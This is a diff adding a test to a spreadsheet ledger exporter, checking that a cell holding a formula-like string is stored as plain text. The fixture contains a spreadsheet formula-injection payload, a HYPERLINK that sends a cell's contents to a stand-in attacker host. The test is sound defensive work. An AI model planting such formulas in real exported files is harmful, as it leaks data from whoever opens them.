@@ -188,6 +188,20 @@ async def test_xlsx_has_a_sheet_per_table_with_the_same_rows(built, engine_confi
                       datetime)
 
 
+def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path):
+    """A summary from another tool (spool, API) written as ``=HYPERLINK(...)`` must not become
+    a live formula in the ledger that an inspector opens in Excel."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+    table = ledger.Table("incidents", "事件", ["编号", "摘要"], [[1, evil], [2, "+1"]])
+    path = tmp_path / "ledger.xlsx"
+    ledger.write_xlsx([table], path)
+    ws = load_workbook(path)["事件"]
+    assert [(c.value, c.data_type) for c in ws[2]] == [(1, "n"), (evil, "s")]
+    assert ws.cell(3, 2).value == "+1"
+
+
 async def test_english_headings_with_language_en(built, engine_config):
     h, _ = built
     config = engine_config.model_copy(deep=True)
